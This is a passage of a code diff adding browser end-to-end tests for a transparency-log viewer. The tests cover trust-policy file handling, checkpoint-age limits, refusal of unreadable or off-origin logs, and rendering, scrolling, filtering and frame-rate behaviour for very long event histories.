+          await page.getByText("your own trust file").waitFor();
+          await page.reload();
+          await page.getByText("your own trust file").waitFor();
+          await page.getByRole("button", { name: "Review" }).click();
+          await page.getByRole("button", { name: "Forget mine" }).click();
+          await headline(page, "Whose word should count?");
+          await drop(page, "trust.policy", OTHER_POLICY);
+          await page.getByRole("dialog").getByText("ffffffff", { exact: true }).waitFor();
+          await page.keyboard.press("Escape");
+          await headline(page, "Whose word should count?");
+        });
+      } finally {
+        shipped = POLICY;
+      }
+    });
+
+    test("a trust file that changes under the same page is told, and the earlier one counts until the reader says otherwise", async () => {
+      const url = host.url.replace("127.0.0.1", "models.test");
+      try {
+        await visit(
+          "#q=resnet50@2.1",
+          async (page) => {
+            await page.getByText("the trust file that came with this page", { exact: true }).waitFor();
+            shipped = OTHER_POLICY;
+            await page.reload();
+            await page.getByText("The trust file that comes with this page has changed.").waitFor();
+            await page.getByRole("button", { name: "Review" }).click();
+            await page.getByRole("dialog").getByText("0a1b2c3d", { exact: true }).waitFor();
+            await page.getByRole("button", { name: "Accept the new one" }).click();
+            await page.getByText("the trust file that came with this page", { exact: true }).waitFor();
+          },
+          { url },
+        );
+      } finally {
+        shipped = POLICY;
+      }
+    });
+
+    test("a limit on the checkpoint's age is a part of the question", async () => {
+      await visit("#q=old", async (page) => {
+        await page.getByLabel("Oldest checkpoint to accept as fresh").selectOption("1h");
+        await headline(page, "The 9 events about old are genuine, but newer ones could exist.");
+        await page.getByText("--max-checkpoint-age 1h").waitFor();
+        assert.match(page.url(), /#q=old&age=1h$/);
+      });
+    });
+
+    test("what is no question, and what cannot be reached, is no verdict", async () => {
+      await visit("#q=pkg:npm/x", async (page) => {
+        await headline(page, "That is not something to look up.");
+        await page.locator("gl-verdict").getByText("a package address needs a digest").waitFor();
+        assert.equal(await page.locator("gl-verdict .claims").count(), 0);
+      });
+      await visit(
+        "#q=x@1&log=https://elsewhere.example/log",
+        async (page) => {
+          await headline(page, "This page may not read that log.");
+        },
+        { allow: /connect-src|elsewhere\.example/ },
+      );
+    });
+
+    test("of a long history only what is on show is drawn; it scrolls, turns, filters and is walked through by keys", async () => {
+      await visit("#q=many", async (page) => {
+        await headline(page, "All 5000 events recorded about many are here, and none was changed.");
+        const rows = page.locator("gl-events tr.event");
+        assert.ok((await rows.count()) < 80, "few rows are drawn");
+        assert.equal(await page.locator("gl-events table").getAttribute("aria-rowcount"), "5001");
+        assert.equal(await page.locator("gl-timeline g.hit").count(), 200);
+        // Scrolled to its end, the list shows its last event, and says which row that is.
+        const list = page.getByRole("group", { name: "List of events" });
+        await list.evaluate((element) => (element.scrollTop = element.scrollHeight));
+        await page.locator("#entry-100080").waitFor();
+        assert.equal(await page.locator("#entry-100080").getAttribute("aria-rowindex"), "5001");
+        assert.ok((await rows.count()) < 80);
+        // A mark in the timeline opens its row, and brings it on show.
+        await list.evaluate((element) => (element.scrollTop = 0));
+        await page.locator("gl-timeline g.hit").nth(150).click();
+        await page.locator("gl-event").waitFor();
+        assert.ok(await page.locator("gl-events tr.open").evaluate((row) => row.getBoundingClientRect().top > 0));
+        await page.locator("gl-events tr.open button.toggle").click();
+        // From row to row by keys, past those that are drawn.
+        await page.getByRole("button", { name: "Newest first" }).click();
+        await page.locator("#entry-100080 button.toggle").focus();
+        for (const [key, entry] of [
+          ["ArrowDown", 100_060],
+          ["End", 100],
+          ["ArrowUp", 120],
+          ["Home", 100_080],
+        ] as const) {
+          await page.keyboard.press(key);
+          await page.waitForFunction((id) => {
+            let element = document.activeElement;
+            while (element?.shadowRoot?.activeElement) element = element.shadowRoot.activeElement;
+            return element?.closest("tr")?.id === id;
+          }, `entry-${entry}`);
+        }
+        // The focus outlives its row's leaving the window.
+        await list.evaluate((element) => (element.scrollTop = 90_000));
+        await page.waitForFunction(() => document.activeElement !== document.body);
+        await page.waitForTimeout(50);
+        assert.equal(await page.locator("#entry-100080").count(), 1);
+        // The strip leads to earlier events.
+        await page.getByRole("slider").focus();
+        await page.keyboard.press("Home");
+        assert.match(
+          (await page.getByRole("slider").getAttribute("aria-valuetext")) ?? "",
+          /^events 1 to 200 of 5000, /,
+        );
+        // A filter looks at all of them.
+        await page.getByLabel("Filter events by words").fill("service-3 deploy");
+        await page.getByText("55 of 5000 events, 1 actor; times are UTC, as actors claim them").waitFor();
+        assert.equal(await rows.count(), 55, "a short list is drawn whole");
+        await page.getByLabel("Filter events by kind").selectOption("custody");
+        await page.getByText("None of the 5000 events is like that.").waitFor();
+        await look(page, "many-none-desktop-light");
+        await page.getByLabel("Filter events by words").fill("");
+        await page.getByLabel("Filter events by kind").selectOption("all");
+        await page.getByText("5000 events, 13 actors").waitFor();
+        await look(page, "many-desktop-light");
+      });
+    });
+
+    test("a hundred thousand events stay fluid", async (context) => {
+      await visit("#q=huge", async (page) => {
+        await page.evaluate(watchFrames);
+        const measured = async (name: string): Promise<void> => {
+          const { median, worst, long } = await page.evaluate(takeFrames);
+          context.diagnostic(`${name}: frames of ${median} ms, worst ${worst} ms, ${long} ms in tasks over 50 ms`);
+          // Generous, for machines that do something else besides: drawing all rows would take seconds.
+          assert.ok(median < 100, `${name}: frames of ${median} ms`);
+        };
+        await headline(page, "All 100\u202f000 events recorded about huge are here, and none was changed.");
+        const list = page.getByRole("group", { name: "List of events" });
+        await list.waitFor();
+        await page.waitForTimeout(300);
+        await measured("arrival");
+        for (const [device, width, height] of [
+          ["desktop", 1280, 900],
+          ["phone", 390, 844],
+        ] as const) {
+          await page.setViewportSize({ width, height });
+          await list.hover();
+          await page.waitForTimeout(100);
+          await page.evaluate(takeFrames);
+          for (let step = 0; step < 40; step++) await page.mouse.wheel(0, 400);
+          await page.waitForTimeout(200);
+          await measured(`wheel, ${device}`);
+          await list.evaluate(async (element) => {
+            for (let step = 0; step <= 60; step++) {
+              element.scrollTop = (element.scrollHeight * ((step * 37) % 61)) / 61;
+              await new Promise((resolve) => requestAnimationFrame(resolve));
+            }
+          });
+          await measured(`leaps, ${device}`);
+          assert.ok((await page.locator("gl-events tr").count()) < 90, "few rows are drawn");
+          await look(page, `huge-${device}-light`);
+        }
+        await page.evaluate(takeFrames);
+        await page.getByLabel("Filter events by words").fill("service-3 deploy");
+        await page
+          .locator("gl-events")
+          .getByText(/^1099 of 100/)
+          .waitFor();
+        await measured("filter");
+      });
+    });
+  },
+);
 
 /** Notes what moves without having been asked to. */
 function watchShifts(): void {
   const seen = globalThis as unknown as { shifts: string[] };
   seen.shifts = [];
   new PerformanceObserver((list) => {
-    for (const entry of list.getEntries() as (PerformanceEntry & { value: number; sources: { node: Element; previousRect: DOMRect; currentRect: DOMRect }[] })[]) {
-      const moved = entry.sources.map(({ node, previousRect, currentRect }) => `${node?.nodeName}.${node?.className} ${previousRect.y}→${currentRect.y}`);
+    for (const entry of list.getEntries() as (PerformanceEntry & {
+      value: number;
+      sources: { node: Element; previousRect: DOMRect; currentRect: DOMRect }[];
+    })[]) {
+      const moved = entry.sources.map(
+        ({ node, previousRect, currentRect }) =>
+          `${node?.nodeName}.${node?.className} ${previousRect.y}→${currentRect.y}`,
+      );
       if (entry.value > 0.02) seen.shifts.push(`${entry.value}: ${moved.join(", ")}`);
     }
   }).observe({ type: "layout-shift" });
@@ -480,17 +573,25 @@ function watchFrames(): void {
 function takeFrames(): Frames {
   const seen = globalThis as unknown as { frames: number[]; long: number };
   const frames = seen.frames.sort((a, b) => a - b);
-  const taken = { median: Math.round(frames[frames.length >> 1] ?? 0), worst: Math.round(frames.at(-1) ?? 0), long: Math.round(seen.long) };
+  const taken = {
+    median: Math.round(frames[frames.length >> 1] ?? 0),
+    worst: Math.round(frames.at(-1) ?? 0),
+    long: Math.round(seen.long),
+  };
   [seen.frames, seen.long] = [[], 0];
   return taken;
 }
 
 /** Drops a file on the page as a hand would. */
 async function drop(page: Page, name: string, content: string): Promise<void> {
-  const transfer = await page.evaluateHandle(([file, text]) => {
-    const data = new DataTransfer();
-    data.items.add(new File([text ?? ""], file ?? ""));
-    return data;
-  }, [name, content]);
-  for (const type of ["dragenter", "dragover", "drop"]) await page.dispatchEvent("body", type, { dataTransfer: transfer });
+  const transfer = await page.evaluateHandle(
+    ([file, text]) => {
+      const data = new DataTransfer();
+      data.items.add(new File([text ?? ""], file ?? ""));
+      return data;
+    },
+    [name, content],
+  );
+  for (const type of ["dragenter", "dragover", "drop"])
+    await page.dispatchEvent("body", type, { dataTransfer: transfer });
 }
